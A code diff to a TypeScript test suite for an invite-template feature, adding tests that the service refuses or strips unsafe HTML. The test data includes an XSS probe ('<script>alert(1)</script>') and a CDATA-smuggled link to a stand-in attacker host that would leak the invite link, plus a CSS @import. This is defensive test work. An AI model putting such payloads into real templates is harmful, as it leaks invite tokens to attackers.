@@ -3,6 +3,9 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { organizationStream } from "../../../src/domain/streams.ts";
 import { findSession } from "../../../src/commands/sign-in/sessions.ts";
 import { digestOf } from "../../../src/commands/kit/secrets.ts";
+import type { OrganizationEvent } from "../../../src/domain/organization/events.ts";
+import { idOf } from "../../domain/given.ts";
+import { patience } from "../../support/eventually.ts";
 import { startTestService, type TestService } from "../../support/http.ts";
 
 let service: TestService;
@@ -220,6 +223,22 @@ describe("idle log-out after 120 minutes or as the organization sets it", () => 
 describe("invite templates", () => {
   const templates = () => `${organization}/invite-templates`;
 
+  /** Appends an event that no command would make today. */
+  async function record(event: OrganizationEvent): Promise<void> {
+    const { services, organizationId, ownerId } = service;
+    const { store, codec, directory, clock } = services;
+    const stream = organizationStream(organizationId);
+    const metadata = {
+      occurredAt: clock().toISOString(),
+      organizationId,
+      actor: { userId: ownerId, via: "SESSION" },
+      correlationId: idOf(901),
+    } as const;
+    const records = await codec.encode(stream, [{ eventId: idOf(902), event, metadata }]);
+    await store.append(stream, (await store.readStream(stream)).length - 1, records);
+    await directory.waitFor(await store.lastPosition(), patience);
+  }
+
   test("a new organization has an English template", async () => {
     const list = await asOwner("GET", templates());
     expect(list.body.items).toMatchObject([{ language: "en" }]);
@@ -251,15 +270,28 @@ describe("invite templates", () => {
     [{ subject: "", html: "x" }, "/subject"],
     [{ subject: "two\nlines", html: "x" }, "/subject"],
     [{ html: "x" }, "/subject"],
+    [{ subject: "x", html: "<script>alert(1)</script>" }, "/html"],
   ])("an invalid template cannot be saved: %j", async (body, pointer) => {
     const refused = await asOwner("PUT", `${templates()}/fr`, body);
     expect(refused).toMatchObject({ status: 400, body: { errors: [{ pointer }] } });
   });
 
   test("braces that are not parameters stay as they are", async () => {
-    const html = "<style>p {color: red} a{b:c}</style><p>{ }{inviteLink}</p>";
+    const html = "<p>p {color: red} a{b:c} { }{inviteLink}</p>";
     expect((await asOwner("PUT", `${templates()}/it`, { subject: "x", html })).status).toBe(200);
     expect((await asOwner("POST", `${templates()}/it/preview`)).body).toContain("{color: red}");
+  });
+
+  test("a stored template that would be refused now is previewed and mailed without what is refused", async () => {
+    const html = `<![CDATA[><a href='http://evil.example/?]]>{inviteLink}'>x</a><style>@import 'x'</style>`;
+    await record({ type: "InviteTemplateSaved", data: { language: "is", subject: "x", html } });
+    const path = `${templates()}/is`;
+    expect((await asOwner("GET", path)).body.html).toBe(html);
+    const shown = await asOwner("POST", `${path}/preview`);
+    expect(shown).toMatchObject({ status: 200 });
+    expect(shown.body).not.toMatch(/evil[.]example|@import/);
+    expect(shown.body).toContain("#token=preview");
+    await asOwner("DELETE", path);
   });
 
   test("a language that is not in ISO 639-1 is refused", async () => {
@@ -313,7 +345,7 @@ describe("invite templates", () => {
       asOwner(
         "POST",
         `${organization}/invite-templates/en/preview`,
-        { subject: "s", html: "<script>alert(1)</script>" },
+        { subject: "s", html: "<b>s</b>" },
         { "idempotency-key": "preview-1" },
       );
     const first = await preview();
